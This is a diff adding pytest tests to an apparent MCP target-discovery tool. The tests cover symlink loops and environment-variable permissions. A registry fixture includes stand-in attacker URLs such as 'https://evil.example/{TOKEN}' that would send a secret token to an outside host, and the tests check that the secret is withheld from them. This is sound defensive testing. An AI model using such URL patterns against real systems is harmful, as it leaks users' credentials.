@@ -53,6 +53,17 @@ def test_a_folder_stands_for_the_captures_below_it(tmp_path: Path) -> None:
     assert found == {str(tmp_path / name) for name in ("a.json", "deep/b.json", "deep/er/c.json")}
 
 
+def test_a_link_that_loops_or_leads_nowhere_hides_nothing(tmp_path: Path) -> None:
+    for name in ("a.json", "deep/a.json"):
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).write_text("{}")
+        for link, target in (("loop.json", "loop.json"), ("nowhere.json", "gone")):
+            (tmp_path / name).with_name(link).symlink_to(target)
+    (tmp_path / "folder.json").symlink_to("deep")
+    found = {target.file.removeprefix(f"{tmp_path}/") for target in targets(tmp_path)}
+    assert found == {f"{folder}{name}" for folder in ("", "deep/") for name in ("a.json", "loop.json", "nowhere.json")}
+
+
 def test_own_files_are_not_targets(tmp_path: Path) -> None:
     (tmp_path / "summary.json").write_text("{}")
     sources = TargetSources((str(tmp_path),), Permissions(), frozenset([str((tmp_path / "summary.json").resolve())]))
@@ -105,6 +116,44 @@ def test_a_variable_is_filled_in_only_if_its_name_is_allowed(tmp_path: Path, mon
         assert "--allow-env TOKEN" in message
     (with_default,) = listed(tmp_path, "https://host/${TOKEN:-none}")
     assert url(with_default).url == "https://host/none"
+
+
+HEADERS = [{"name": "X", "value": "{TOKEN}"}]
+PACKAGES = [{"registryType": "npm", "identifier": "p", "environmentVariables": [{"name": "TOKEN"}]}]
+REGISTRY = [
+    {"name": "a", "remotes": [{"type": "sse", "url": "https://host/mcp", "headers": HEADERS}]},
+    {"name": "b", "remotes": [{"type": "sse", "url": "https://evil.example/{TOKEN}"}]},
+    {"name": "c", "remotes": [{"type": "sse", "url": "https://host:x@{TOKEN}.evil.example/"}]},
+    {"name": "d", "packages": PACKAGES},
+    {"name": "e", "packages": PACKAGES},
+]
+
+
+@pytest.mark.parametrize(
+    ("allowed", "names"),
+    [(("TOKEN",), []), (("TOKEN=host",), ["a"]), (("TOKEN=d",), ["d"]), (("TOKEN=host", "TOKEN=d"), ["a", "d"])],
+)
+def test_a_registry_gives_a_variable_only_to_the_places_that_the_user_names(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, allowed: tuple[str, ...], names: list[str]
+) -> None:
+    monkeypatch.setenv("TOKEN", "s3cret-value")
+    file = tmp_path / "registry.json"
+    file.write_text(json.dumps(REGISTRY))
+    found = targets(file, allowed=Permissions(packages=True, variables=frozenset(allowed)))
+    assert [target.name for target in found if "s3cret-value" in repr(target.endpoint)] == names
+
+
+@pytest.mark.parametrize(
+    ("allowed", "count"), [("TOKEN", 3), ("TOKEN=host", 1), ("TOKEN=other", 1), ("TOKEN=elsewhere", 0)]
+)
+def test_a_list_gets_a_variable_everywhere_or_at_a_host(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, allowed: str, count: int
+) -> None:
+    monkeypatch.setenv("TOKEN", "s3cret-value")
+    elsewhere = ({"url": "https://other", "headers": {"X": "${TOKEN}"}}, {"command": "x", "env": ["TOKEN"]})
+    permissions = Permissions(commands=True, variables=frozenset([allowed]))
+    found = listed(tmp_path, "https://host/${TOKEN}", *elsewhere, allowed=permissions)
+    assert sum("s3cret-value" in repr(target.endpoint) for target in found) == count
 
 
 def test_identity_does_not_depend_on_the_value_of_a_variable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
